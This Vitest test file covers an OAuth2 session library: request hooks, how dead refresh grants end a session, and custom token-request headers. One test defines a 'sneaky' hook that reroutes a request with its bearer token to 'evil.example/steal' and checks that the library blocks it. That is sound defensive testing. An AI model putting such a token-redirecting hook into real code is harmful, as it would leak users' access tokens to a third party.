import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { OriginNotAllowedError, ReauthenticationRequiredError } from '../../src/errors/index.js';
import { clientSecretBasic } from '../../src/protocol/client-authentication.js';
import { defineProfile } from '../../src/protocol/profile.js';
import { OAuth2Session } from '../../src/session/oauth2-session.js';
import { MemoryStore } from '../../src/storage/memory.js';
import { startServer, type TestServer } from '../helpers/http-server.js';
import { json, useScriptedServer } from '../helpers/scripted-server.js';

// README's Zoom profile imports the package by name; here that is src/.
vi.mock('oauth2-session', () => import('../../src/index.js'));
const { zoom } = await import('../../examples/profiles/zoom.js');

let api: TestServer;
const seen: { url: string; headers: Record<string, string | string[] | undefined> }[] = [];
beforeAll(async () => {
	api = await startServer((request, response) => {
		seen.push({ url: request.url ?? '', headers: request.headers });
		response.end('ok');
	});
});
afterAll(() => api.close());

describe("a profile's protected-request hooks", () => {
	it('run in order on every API request and may add headers and query parameters', async () => {
		const profile = defineProfile({
			name: 'test',
			hooks: {
				protectedRequest: [
					(request) => {
						const url = new URL(request.url);
						url.searchParams.set('appsecret_proof', 'proof');
						return new Request(url, request);
					},
					(request) => {
						request.headers.set('x-order', `${request.headers.get('x-order') ?? ''}second`);
					},
				],
			},
		});
		const session = new OAuth2Session({
			clientId: 'app',
			token: { access_token: 'at-profile' },
			allowedOrigins: [api.origin],
			profile,
		});
		await session.fetch(`${api.origin}/me?fields=id`, { headers: { 'x-order': 'first-' } });
		expect(seen.at(-1)?.url).toBe('/me?fields=id&appsecret_proof=proof');
		expect(seen.at(-1)?.headers['x-order']).toBe('first-second');
		expect(seen.at(-1)?.headers.authorization).toBe('Bearer at-profile');
	});

	it('cannot send the token to an origin that is not allowed', async () => {
		const profile = defineProfile({
			name: 'sneaky',
			hooks: {
				protectedRequest: [(request) => new Request('https://evil.example/steal', request)],
			},
		});
		const session = new OAuth2Session({
			clientId: 'app',
			token: { access_token: 'at-profile' },
			allowedOrigins: [api.origin],
			profile,
		});
		await expect(session.fetch(`${api.origin}/me`)).rejects.toBeInstanceOf(OriginNotAllowedError);
	});
});

describe("a profile's deadGrant", () => {
	const auth = useScriptedServer();

	it('ends the session on a refresh answer it matches: one refresh, every caller told to sign in', async () => {
		auth.answer('/token', json(400, { reason: 'Invalid Token!', error: 'invalid_request' }));
		const store = new MemoryStore();
		const session = new OAuth2Session({
			clientId: 'app',
			clientSecret: 's3cret',
			tokenEndpoint: auth.url('/token'),
			token: { access_token: 'at-old', refresh_token: 'rt-revoked', expires_in: -30 },
			allowedOrigins: [api.origin],
			retry: false,
			store,
			profile: zoom,
		});
		const ended: unknown[] = [];
		session.on('sessionEnded', ({ error }) => ended.push(error));
		const results = await Promise.allSettled(
			Array.from({ length: 5 }, () => session.fetch(`${api.origin}/me`)),
		);
		for (const result of results) {
			expect(result.status === 'rejected' && result.reason).toBeInstanceOf(
				ReauthenticationRequiredError,
			);
		}
		expect(auth.hitsOn('/token')).toHaveLength(1);
		expect(ended).toHaveLength(1);
		expect((ended[0] as Error).cause).toMatchObject({
			error: 'invalid_grant',
			errorDescription: 'invalid_request: Invalid Token!',
		});
		expect(await store.get('default')).toBeUndefined();
		// Later callers are told at once, without another refresh.
		await expect(session.fetch(`${api.origin}/me`)).rejects.toBeInstanceOf(
			ReauthenticationRequiredError,
		);
		expect(auth.hitsOn('/token')).toHaveLength(1);
	});
});

describe("a profile's tokenRequestHeaders", () => {
	const auth = useScriptedServer();
	const userAgent = 'web:com.example.app:v1.2 (by /u/example)';
	const reddit = defineProfile({
		name: 'reddit',
		tokenRequestHeaders: { 'user-agent': userAgent },
	});

	it('reach the code exchange, every refresh and the revocation of logout', async () => {
		const answer = { access_token: 'at-1', refresh_token: 'rt-1', expires_in: 3600 };
		auth.answer('/token', json(200, answer));
		auth.answer('/revoke', (_, response) => void response.end());
		const session = new OAuth2Session({
			clientId: 'installed-app',
			clientAuthentication: clientSecretBasic('installed-app', '', { allowEmptySecret: true }),
			tokenEndpoint: auth.url('/token'),
			revocationEndpoint: auth.url('/revoke'),
			redirectUri: 'http://127.0.0.1/cb',
			retry: false,
			profile: reddit,
		});
		await session.fetchToken({ code: 'c-1' });
		await session.refreshToken();
		await session.logout();
		expect(auth.hits.map((hit) => [hit.url, hit.headers['user-agent']])).toEqual([
			['/token', userAgent],
			['/token', userAgent],
			['/revoke', userAgent],
		]);
		expect(auth.hits[0]?.headers.authorization).toBe(`Basic ${btoa('installed-app:')}`);
	});
});
